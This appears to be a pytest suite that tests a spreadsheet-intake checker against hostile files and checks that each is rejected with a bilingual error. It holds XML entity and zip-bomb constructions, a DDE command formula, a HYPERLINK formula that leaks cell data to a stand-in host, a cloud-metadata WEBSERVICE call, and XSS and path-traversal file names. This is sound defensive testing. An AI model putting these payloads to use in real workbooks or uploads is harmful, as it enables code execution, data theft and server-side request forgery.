"""Hostile files through ``check``: one clear error naming the file, and the batch goes on.

Every file of :data:`FILE_CASES` is checked in one batch with two good workbooks around them.
Each must give exactly one error of the expected code naming the file, with a message in Spanish
and in English that says why; the good workbooks must come through untouched; the canary's
token must appear nowhere in the results and the sentinel server must receive no request.
(``tests/check/test_hostile.py`` holds the first, smaller set; these add the variants.)
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from systematise.check import check_files
from systematise.config import Settings
from systematise.read.archive import REASONS
from systematise.read.sandbox import Failed, Job, run_jobs
from systematise.read.workbook import read_workbook
from systematise.schema.problems import in_every_lang
from systematise.schema.stages import CheckedWorkbook
from systematise.template.archive import workbook_bytes
from tests.hostile import files
from tests.hostile.files import Targets
from tests.hostile.traps import Canary, Sentinel, make_canary

ERROR = "error"


@dataclass(frozen=True)
class FileCase:
    name: str
    make: Callable[[Targets], bytes]
    code: str
    reason: str | None = None  # a key of REASONS for file_rejected


def _cases() -> list[FileCase]:
    cases = [
        # corrupt and non-xlsx files
        FileCase("empty.xlsx", lambda t: b"", "file_unreadable"),
        FileCase("truncated-half.xlsx", lambda t: files.good_bytes()[:13000], "file_unreadable"),
        FileCase("truncated-head.xlsx", lambda t: files.good_bytes()[:64], "file_unreadable"),
        FileCase("random.xlsx", lambda t: bytes(range(256)) * 8, "file_unreadable"),
        FileCase("text.xlsx", lambda t: "título;país\nPlan;MEX\n".encode(), "wrong_format"),
        FileCase("sheet.csv", lambda t: b"title,country\n=cmd|' /C calc'!A0,MEX\n", "wrong_format"),
        FileCase("sheet.ods", lambda t: files.ods(), "file_unreadable"),
        FileCase("renamed-ods.xlsx", lambda t: files.ods(), "file_unreadable"),
        FileCase("renamed-docx.xlsx", lambda t: files.docx_like(), "wrong_format"),
        FileCase("legacy.xls", lambda t: files.compound_file("Workbook"), "file_unreadable"),
        FileCase("legacy-renamed.xlsx", lambda t: files.compound_file("Book"), "file_unreadable"),
        FileCase(
            "password.xlsx",
            lambda t: files.compound_file("EncryptionInfo", "EncryptedPackage"),
            "file_encrypted",
        ),
        FileCase("password-bare.xlsx", lambda t: files.compound_file(), "file_encrypted"),
        # archive bombs and odd archives
        FileCase("bomb.xlsx", lambda t: files.zip_bomb(), "file_rejected", "compression_ratio"),
        FileCase(
            "bomb-styles.xlsx",
            lambda t: files.zip_bomb(8, "xl/styles.xml"),
            "file_rejected",
            "compression_ratio",
        ),
        FileCase("many.xlsx", lambda t: files.many_entries(), "file_rejected", "too_many_entries"),
        FileCase(
            "duplicate.xlsx", lambda t: files.duplicate_entry(), "file_rejected", "duplicate_entry"
        ),
        FileCase(
            "duplicate-sheet.xlsx",
            lambda t: files.duplicate_entry(files.INITIATIVES_ENTRY),
            "file_rejected",
            "duplicate_entry",
        ),
        FileCase(
            "overlap.xlsx",
            lambda t: files.overlapping_entries(),
            "file_rejected",
            "overlapping_entries",
        ),
        FileCase("size-lie-small.xlsx", lambda t: files.size_lie(100), "file_unreadable"),
        FileCase(
            "size-lie-4g.xlsx",
            lambda t: files.size_lie(0xFFFF_FFF0),
            "file_rejected",
            "too_much_data",
        ),
        FileCase(
            "zip64-lie.xlsx", lambda t: files.size_lie(2**40), "file_rejected", "too_much_data"
        ),
        FileCase("large.xlsx", lambda t: files.stored_bomb_entry(), "file_rejected", "too_large"),
        # absurd dimensions
        FileCase(
            "dimension-max.xlsx",
            lambda t: files.declared_dimension("A1:XFD1048576"),
            "file_rejected",
            "dimension",
        ),
        FileCase(
            "dimension-cell.xlsx",
            lambda t: files.declared_dimension("XFD1048576"),
            "file_rejected",
            "dimension",
        ),
        FileCase(
            "dimension-wide.xlsx",
            lambda t: files.declared_dimension("A1:ZZ100000"),
            "file_rejected",
            "dimension",
        ),
        FileCase(
            "far-cell.xlsx", lambda t: files.far_cell("XFD1048576"), "file_rejected", "dimension"
        ),
        FileCase("far-row.xlsx", lambda t: files.far_cell("A100000"), "file_rejected", "dimension"),
        FileCase("far-column.xlsx", lambda t: files.far_cell("ZZ5"), "file_rejected", "dimension"),
    ]
    # XML attacks, in each part openpyxl parses
    for kind in (
        "billion_laughs",
        "xxe_file",
        "xxe_http",
        "parameter_entity",
        "external_dtd",
    ):
        for part in files.XML_PARTS:
            cases.append(
                FileCase(
                    f"{kind}-{part}.xlsx",
                    lambda t, kind=kind, part=part: files.xml_attack_workbook(kind, part, t),  # type: ignore[misc]
                    "file_rejected",
                    "xml",
                )
            )
    return cases


FILE_CASES = _cases()

#: Files that are not errors: their hostile part is never read (XInclude is not processed,
#: an embedded archive is never opened); the initiative in them is read normally.
HARMLESS_CASES: dict[str, Callable[[Targets], bytes]] = {
    **{
        f"xinclude-{part}.xlsx": (
            lambda t, part=part: files.xml_attack_workbook("xinclude", part, t)  # type: ignore[misc]
        )
        for part in files.XML_PARTS
    },
    "nested-bomb.xlsx": lambda t: files.nested_zip(files.zip_bomb()),
    "nested-xlsx.xlsx": lambda t: files.nested_zip(
        files.xml_attack_workbook("xxe_file", "sheet", t)
    ),
}

GOOD = ("good-first.xlsx", "good-last.xlsx")


@dataclass(frozen=True)
class Checked:
    results: dict[str, CheckedWorkbook]
    canary: Canary
    requests: list[str]
    folder: Path


@pytest.fixture(scope="module")
def checked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Checked]:
    folder = tmp_path_factory.mktemp("hostile-check")
    canary = make_canary(tmp_path_factory.mktemp("canary"))
    sentinel = Sentinel(lifetime=120).start()
    try:
        targets = Targets(canary.url, sentinel.url)
        paths = [folder / GOOD[0]]
        paths[0].write_bytes(files.good_bytes("Primera iniciativa correcta"))
        for name, make in [(case.name, case.make) for case in FILE_CASES] + list(
            HARMLESS_CASES.items()
        ):
            path = folder / name
            path.write_bytes(make(targets))
            paths.append(path)
        paths.append(folder / GOOD[1])
        paths[-1].write_bytes(files.good_bytes("Última iniciativa correcta"))
        results = check_files(paths, Settings())
        assert [result.file for result in results] == [path.name for path in paths]
        yield Checked({r.file: r for r in results}, canary, sentinel.requests, folder)
    finally:
        sentinel.stop()


@pytest.mark.parametrize("case", FILE_CASES, ids=[case.name for case in FILE_CASES])
@pytest.mark.slow
def test_a_hostile_file_gets_one_clear_error_naming_it(checked: Checked, case: FileCase) -> None:
    result = checked.results[case.name]
    assert result.rows == () and result.header is None
    assert [(p.file, p.code, p.severity.value) for p in result.problems] == [
        (case.name, case.code, ERROR)
    ]
    (found,) = result.problems
    spanish, english = found.message("es"), found.message("en")
    assert spanish and english and spanish != english
    assert "{" not in spanish + english  # every placeholder filled
    if case.reason is not None:
        reason = in_every_lang("reason", REASONS[case.reason])
        reason_es, reason_en = str(reason["reason_es"]), str(reason["reason_en"])
        assert reason_es in spanish and reason_en in english


@pytest.mark.parametrize("name", list(HARMLESS_CASES))
@pytest.mark.slow
def test_an_ignored_hostile_part_changes_nothing(checked: Checked, name: str) -> None:
    result = checked.results[name]
    assert result.problems == ()
    assert [row.initiative is not None for row in result.rows] == [True]


@pytest.mark.slow
def test_the_good_workbooks_of_the_batch_are_still_read(checked: Checked) -> None:
    for name in GOOD:
        result = checked.results[name]
        assert result.problems == () and result.header is not None
        assert [row.initiative is not None for row in result.rows] == [True]


@pytest.mark.slow
def test_nothing_was_read_from_the_canary_or_fetched(checked: Checked) -> None:
    dumped = json.dumps(
        [result.model_dump(mode="json") for result in checked.results.values()],
        ensure_ascii=False,
    )
    assert checked.canary.token not in dumped
    assert checked.requests == []


@pytest.mark.slow
def test_the_child_reader_refuses_xml_attacks_too(tmp_path: Path) -> None:
    """Defence in depth: past the archive check, defusedxml in the child still says no."""
    targets = Targets((tmp_path / "canary.txt").as_uri(), "http://127.0.0.1:9/")
    jobs = []
    for kind in ("billion_laughs", "xxe_file", "parameter_entity"):
        for part in ("sheet", "workbook", "core"):
            path = tmp_path / f"{kind}-{part}.xlsx"
            path.write_bytes(files.xml_attack_workbook(kind, part, targets))
            jobs.append(Job(read_workbook, (path, path.name, Settings().limits)))
    outcomes = run_jobs(jobs, memory_mb=512, seconds=30)
    assert [o.reason if isinstance(o, Failed) else o for o in outcomes] == ["xml"] * len(jobs)


# --- hostile content in cells: an error at the cell, in both languages ------------------------


def _problems_at(result: CheckedWorkbook, code: str) -> list[tuple[str | None, str | None]]:
    return [(p.sheet, p.cell) for p in result.problems if p.code == code]


def _check_one(folder: Path, name: str, data: bytes) -> CheckedWorkbook:
    path = folder / name
    path.write_bytes(data)
    (result,) = check_files([path], Settings())
    return result


def test_formulas_in_text_fields_are_flagged_at_their_cell(tmp_path: Path) -> None:
    workbook = files.good_workbook()
    sheet = files.initiatives_sheet(workbook)
    formulas = {
        "summary": '=HYPERLINK("http://127.0.0.1:9/leak?"&B3,"Ver detalles")',
        "description": "=cmd|' /C calc'!A0",
        "objectives": '=WEBSERVICE("http://169.254.169.254/latest/meta-data/")',
        "results": "=1+1",
    }
    cells = {key: files.write_formula(sheet, 3, key, value) for key, value in formulas.items()}
    result = _check_one(tmp_path, "formulas.xlsx", workbook_bytes(workbook))
    found = [p for p in result.problems if p.code == "formula_in_cell"]
    assert {(p.field, p.sheet, p.cell) for p in found} == {
        (key, "Iniciativas", cell) for key, cell in cells.items()
    }
    for item in found:
        assert item.file == "formulas.xlsx"
        assert item.message("es") != item.message("en")
        assert item.cell is not None and item.cell in item.message("en") + item.cell
    assert result.rows[0].initiative is None  # never evaluated, never published


def test_formula_like_text_is_kept_as_text(tmp_path: Path) -> None:
    padding = " y el texto sigue con una explicación larga del alcance de la iniciativa." * 2
    row: dict[str, object] = {
        "title": "+52 Registro -- @ iniciativa",
        "summary": "-2+3 " + padding,
        "description": "@SUM(A1:A9) " + padding,
        "objectives": "\tTabulado al inicio",
        "lessons_learned": "+cmd|' /C calc'!A0",
    }
    result = _check_one(
        tmp_path, "formula-like.xlsx", workbook_bytes(files.workbook_with_rows([row]))
    )
    initiative = result.rows[0].initiative
    assert initiative is not None, result.problems
    assert initiative.title.startswith("+52")
    assert initiative.lessons_learned == "+cmd|' /C calc'!A0"


def test_an_oversized_cell_is_an_error_at_its_cell(tmp_path: Path) -> None:
    rows: list[dict[str, object]] = [
        {"title": "T" * 40_000},
        {"title": "Título normal", "description": "palabra " * 4_000},
    ]
    result = _check_one(tmp_path, "oversized.xlsx", workbook_bytes(files.workbook_with_rows(rows)))
    assert _problems_at(result, "too_long") == [("Iniciativas", "B3"), ("Iniciativas", "AI4")]
    for item in result.problems:
        assert "T" * 300 not in item.message("en") + item.message("es")


URLS = {
    "canary": "{canary}",
    "loopback": "{sentinel}",
    "metadata": "http://169.254.169.254/latest/meta-data/",
    "javascript": "javascript:alert(document.cookie)",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "localhost": "http://localhost:8080/admin",
    "ipv6": "http://[::1]/",
    "private": "https://10.0.0.1/intranet",
    "credentials": "https://user:secret@example.org/",
    "vbscript": "vbscript:msgbox(1)",
}


@pytest.mark.slow
def test_local_internal_and_non_http_websites_are_refused_at_their_cell(tmp_path: Path) -> None:
    targets = Targets((tmp_path / "canary.txt").as_uri(), "http://127.0.0.1:9/")
    rows: list[dict[str, object]] = [
        {
            "title": f"Iniciativa con dirección {key}",
            "website": url.format(canary=targets.canary_url, sentinel=targets.sentinel_url),
        }
        for key, url in URLS.items()
    ]
    result = _check_one(tmp_path, "websites.xlsx", workbook_bytes(files.workbook_with_rows(rows)))
    expected = [("Iniciativas", f"AX{3 + index}") for index in range(len(URLS))]
    assert _problems_at(result, "url_invalid") == expected
    assert all(row.initiative is None for row in result.rows)


# --- hostile file and sheet names ------------------------------------------------------------

HOSTILE_NAMES = (
    "..\\..\\x.xlsx",
    "line\nbreak.xlsx",
    "‮xslx.exe.xlsx",
    "<img src=x onerror=alert(1)>.xlsx",
    "=cmd|' (C) calc'!A0.xlsx",
    "n" * 240 + ".xlsx",
    "-rf .xlsx",
)


@pytest.mark.slow
def test_hostile_file_names_are_named_as_sent_and_feedback_stays_inside(tmp_path: Path) -> None:
    from systematise.feedback import write_feedback

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    paths = []
    for index, name in enumerate(HOSTILE_NAMES):
        path = inbox / name
        data = files.good_bytes(f"Iniciativa del archivo {index}") if index % 2 else b"broken"
        path.write_bytes(data)
        paths.append(path)
    results = check_files(paths, Settings())
    assert [result.file for result in results] == list(HOSTILE_NAMES)
    for index, result in enumerate(results):
        if index % 2:
            assert result.problems == ()
        else:
            assert [(p.file, p.code) for p in result.problems] == [
                (HOSTILE_NAMES[index], "wrong_format")
            ]
    feedback = tmp_path / "feedback"
    written = write_feedback(list(zip(paths, results, strict=True)), feedback, Settings())
    outside = [p for p in tmp_path.rglob("*") if p.is_file() and not p.is_relative_to(feedback)]
    assert sorted(outside) == sorted(paths)
    for item in written:
        assert item.folder.parent == feedback
        assert item.folder.name.isascii() and "\n" not in item.folder.name
        html = item.report_html.read_text(encoding="utf-8")
        assert "<img src=x" not in html


def test_hostile_sheet_names_are_ignored_or_named_safely(tmp_path: Path) -> None:
    workbook = files.good_workbook()
    for title in ("=cmd|' (C) calc'!A0", "<img src=x onerror=alert(1)>", "‮slx.exe", "'"):
        workbook.create_sheet(title)["A1"] = "=1+1"
    result = _check_one(tmp_path, "sheets.xlsx", workbook_bytes(workbook))
    assert result.problems == ()
    assert [row.initiative is not None for row in result.rows] == [True]


@pytest.mark.slow
def test_merged_cells_over_the_data_are_named_in_both_languages(tmp_path: Path) -> None:
    workbook = files.good_workbook()
    files.initiatives_sheet(workbook).merge_cells("A3:C5")
    result = _check_one(tmp_path, "merged.xlsx", workbook_bytes(workbook))
    merged = [p for p in result.problems if p.code == "merged_cells"]
    assert [(p.sheet, p.cell) for p in merged] == [("Iniciativas", "A3")]
    assert "A3:C5" in merged[0].message("es") and "A3:C5" in merged[0].message("en")
